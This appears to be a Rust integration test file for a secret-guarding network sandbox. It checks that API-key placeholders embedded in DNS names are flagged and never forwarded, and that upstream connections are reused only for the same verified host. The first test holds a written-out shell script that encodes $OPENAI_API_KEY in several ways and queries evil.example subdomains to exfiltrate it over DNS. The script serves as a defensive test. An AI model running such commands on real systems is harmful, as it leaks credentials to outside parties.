#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn placeholders_in_dns_names_are_violations_and_never_forwarded() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let sb = SecretRun::new(&net, ENV).secret(ONE).logged();
    let o = sb.run(r#"hex=$(printf '%s' "$OPENAI_API_KEY" | od -An -tx1 | tr -d ' \n'); \
           b32=$(printf '%s' "$OPENAI_API_KEY" | base32 | tr -d '=\n' | tr A-Z a-z); \
           b64=$(printf 'xx%s' "$OPENAI_API_KEY" | base64 | tr -d '=\n' | tr '+/' '-_'); \
           for n in "${hex%????????????????}.${hex#??????????????????????}.evil.example" "$b32.evil.example" "$b64.evil.example" "msb-openai.api-key.evil.example"; do \
             dig +short +tries=1 +time=3 "$n" @192.0.2.1 > /dev/null; echo "q=$?"; done; \
           dig +short api.openai.com"#);
    let out = stdout(&o);
    assert!(out.contains(UPSTREAM_V4), "{}", report(&o, &net));
    let ev = sb.events.read();
    for form in ["hex", "base32", "base64", "raw"] {
        assert!(
            ev.contains(&format!("\"form\":\"{form}\"")),
            "no {form} violation in:\n{ev}\n{}",
            report(&o, &net)
        );
    }
    assert!(ev.contains("\"location\":\"dns-name\""), "{ev}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn upstream_connections_are_reused_only_for_the_same_verified_name() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let o = run(
        &net,
        &["--secret", ONE],
        &format!(
            r#"for p in first second; do curl --http1.1 -sS -m 5 -o /dev/null -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/$p; done; \
            curl --http1.1 -sS -m 5 -o /dev/null --resolve other.example:443:{UPSTREAM_V4} -H "X: $OPENAI_API_KEY" https://other.example/other; echo "other=$?"; \
            curl --http1.1 -sS -m 5 -o /dev/null -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/third"#
        ),
    );
    assert!(stdout(&o).contains("other="), "{}", report(&o, &net));
    let conns = net.connections();
    // The second client connection reused the first one's upstream connection.
    let first = conns
        .iter()
        .find(|(_, d)| d.contains("GET /first "))
        .expect("first request arrived");
    assert!(first.1.contains("GET /second "), "{conns:?}");
    assert_eq!(first.0, "api.openai.com");
    // Another name on the same address never rides on it (and, not pinned, got nothing).
    for (sni, data) in &conns {
        if data.contains("/first") {
            assert!(!data.contains("/other"), "{conns:?}");
        }
        if data.contains("/other") {
            assert_eq!(sni, "other.example");
        }
    }
    assert!(
        !net.received().contains("/other"),
        "an unpinned name got the request"
    );
    assert!(net.received().contains("GET /third "));
}
